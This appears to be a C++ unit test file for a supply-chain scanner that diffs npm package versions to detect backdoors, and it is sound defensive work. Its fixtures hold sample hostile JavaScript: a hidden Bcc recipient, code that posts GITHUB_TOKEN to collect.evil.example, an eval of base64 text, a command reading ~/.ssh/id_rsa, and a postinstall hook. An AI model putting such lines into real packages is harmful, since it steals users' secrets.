#include "warden/supply/diff.h"

#include <gtest/gtest.h>

#include <cstdlib>
#include <filesystem>

namespace warden::supply {
namespace {

const std::string k_fixtures = std::string(WARDEN_SOURCE_DIR) + "/tests/fixtures/diff/";

std::vector<std::string> summary(const DiffReport& r) {
  std::vector<std::string> out;
  for (const auto& f : r.findings)
    out.push_back(std::string(core::severity_name(f.severity)) + " " + f.rule + " " + f.file + ":" +
                  std::to_string(f.line));
  return out;
}

TEST(Diff, PostmarkBccBackdoorIsCriticalWithTheLineAsEvidence) {
  auto a = load_package(k_fixtures + "postmark-1.0.15");
  auto b = load_package(k_fixtures + "postmark-1.0.16");
  ASSERT_TRUE(a.ok() && b.ok());
  auto r = diff_packages(*a, *b);
  ASSERT_FALSE(r.findings.empty());
  EXPECT_EQ(r.findings[0].rule, "supply.diff.hidden_recipient");
  EXPECT_EQ(r.findings[0].severity, core::Severity::critical);
  EXPECT_EQ(r.findings[0].file, "index.js");
  EXPECT_EQ(r.findings[0].line, 33);
  EXPECT_EQ(r.findings[0].evidence, "Bcc: 'phan@giftshop.club',");
  EXPECT_EQ(r.files_changed, 2u);
}

TEST(Diff, RoutineRefactorIsQuiet) {
  auto a = load_package(k_fixtures + "postmark-1.0.15");
  auto b = load_package(k_fixtures + "postmark-1.0.17-refactor");
  ASSERT_TRUE(a.ok() && b.ok());
  EXPECT_EQ(summary(diff_packages(*a, *b)), std::vector<std::string>{});
}

TEST(Diff, TarballsAsNpmPacksThem) {
  namespace fs = std::filesystem;
  fs::path tmp = fs::temp_directory_path() / ("warden-diff-" + std::to_string(::getpid()));
  fs::create_directories(tmp / "package");
  fs::copy(k_fixtures + "postmark-1.0.16", tmp / "package", fs::copy_options::recursive);
  std::string tgz = (tmp / "postmark-mcp-1.0.16.tgz").string();
  ASSERT_EQ(std::system(("tar -czf " + tgz + " -C " + tmp.string() + " package").c_str()), 0);
  auto t = load_package(tgz);
  ASSERT_TRUE(t.ok()) << t.error().message;
  EXPECT_EQ(t->count("index.js"), 1u);
  EXPECT_EQ(t->count("package.json"), 1u);
  auto a = load_package(k_fixtures + "postmark-1.0.15");
  EXPECT_EQ(diff_packages(*a, *t).findings.at(0).rule, "supply.diff.hidden_recipient");
  EXPECT_FALSE(load_package((tmp / "missing.tgz").string()).ok());
  fs::remove_all(tmp);
}

TEST(Diff, EachRiskRule) {
  PackageTree old_tree{{"index.js", "const x = 1;\nexport function f(a) { return a + x; }\n"},
                       {"package.json", R"({"name":"p","version":"1.0.0","dependencies":{"zod":"^3"},"repository":"github:good/p"})"}};
  PackageTree new_tree = old_tree;
  new_tree["index.js"] +=
      "import { exec } from 'child_process';\n"
      "const t = process.env.GITHUB_TOKEN;\n"
      "await fetch('https://collect.evil.example/x', { method: 'POST', body: t });\n"
      "eval(atob('ZXZpbA=='));\n"
      "exec('cat ~/.ssh/id_rsa');\n"
      "const blob = 'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODkrLw==';\n"
      "const admin = 'root@evil.example';\n";
  new_tree["package.json"] = R"({"name":"p","version":"1.0.1","dependencies":{"zod":"^3","left-pad":"1.0.0"},"repository":"github:evil/p","scripts":{"postinstall":"node x.js"}})";
  auto got = summary(diff_packages(old_tree, new_tree));
  std::vector<std::string> want = {
      "high supply.diff.child_process index.js:3",
      "high supply.diff.dynamic_code index.js:6",
      "high supply.diff.dynamic_code index.js:7",
      "high supply.diff.sensitive_file index.js:7",
      "high supply.diff.new_email index.js:9",
      "high supply.diff.install_script package.json:0",
      "medium supply.diff.env_read index.js:4",
      "medium supply.diff.new_network_call index.js:5",
      "medium supply.diff.new_url index.js:5",
      "medium supply.diff.encoded_blob index.js:8",
      "medium supply.diff.metadata_change package.json:0",
      "low supply.diff.new_dependency package.json:0",
  };
  EXPECT_EQ(got, want);
}

TEST(Diff, TokenizerSkipsCommentsAndKeepsStrings) {
  auto t = tokenize_js("// bcc: 'a@b.co'\nconst s = \"x\\\"y\"; /* fetch( */ f(`t ${1}\nu`);\n");
  std::vector<std::string> texts;
  for (const auto& k : t) texts.push_back(k.text);
  EXPECT_EQ(texts, (std::vector<std::string>{"const", "s", "=", "x\\\"y", ";", "f", "(", "t ${1}\nu", ")", ";"}));
  EXPECT_EQ(t[0].line, 2);
}

}  // namespace
}  // namespace warden::supply
